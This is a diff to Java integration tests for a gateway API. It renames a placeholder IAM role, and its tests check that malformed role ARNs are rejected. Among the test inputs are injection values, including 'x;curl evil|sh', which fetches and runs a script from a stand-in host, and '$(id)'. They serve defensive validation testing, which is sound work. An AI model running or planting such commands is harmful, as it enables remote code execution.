@@ -87,12 +87,12 @@ class GatewayApiIntegrationTests {
 	void roleArnsFollowIamsRules() {
 		for (String role : new String[] { "arn:aws:iam::123456789012:role/x;curl evil|sh", "arn:aws:iam::123456789012:role/$(id)",
 				"arn:aws:iam::123456789012:role/a b", "arn:aws:iam::123456789012:role/x'y", "arn:aws:iam::123456789012:role/" }) {
-			Http.Response refused = api.post(GATEWAYS, openGateway(unique("Arn")).replace("arn:aws:iam::123456789012:role/gateway", role));
+			Http.Response refused = api.post(GATEWAYS, openGateway(unique("Arn")).replace("arn:aws:iam::123456789012:role/AgentCoreGatewayRole", role));
 			assertThat(refused.status()).as(role).isEqualTo(400);
 			assertThat(fields(refused)).containsExactly("roleArn");
 		}
 		String pathed = "arn:aws:iam::123456789012:role/service-role/team_a/Gateway+Role=1,x.y@z-";
-		assertThat(api.post(GATEWAYS, openGateway(unique("Arn")).replace("arn:aws:iam::123456789012:role/gateway", pathed))
+		assertThat(api.post(GATEWAYS, openGateway(unique("Arn")).replace("arn:aws:iam::123456789012:role/AgentCoreGatewayRole", pathed))
 			.status()).isEqualTo(202);
 	}
 
@@ -333,7 +333,7 @@ class GatewayApiIntegrationTests {
 		String id = create(unique("Perms"));
 		api.post(GATEWAYS + "/" + id + "/targets", lambdaTarget("weather"));
 		JsonNode plan = api.get(GATEWAYS + "/" + id + "/permissions").json();
-		assertThat(plan.at("/executionRole/roleArn").asString()).isEqualTo("arn:aws:iam::123456789012:role/gateway");
+		assertThat(plan.at("/executionRole/roleArn").asString()).isEqualTo("arn:aws:iam::123456789012:role/AgentCoreGatewayRole");
 		assertThat(plan.at("/executionRole/permissionsPolicy/Statement/0/Resource").asString())
 			.isEqualTo("arn:aws:lambda:us-east-1:123456789012:function:weather");
 		assertThat(plan.at("/lambdaResourcePolicies/0/crossAccount").asBoolean()).isFalse();
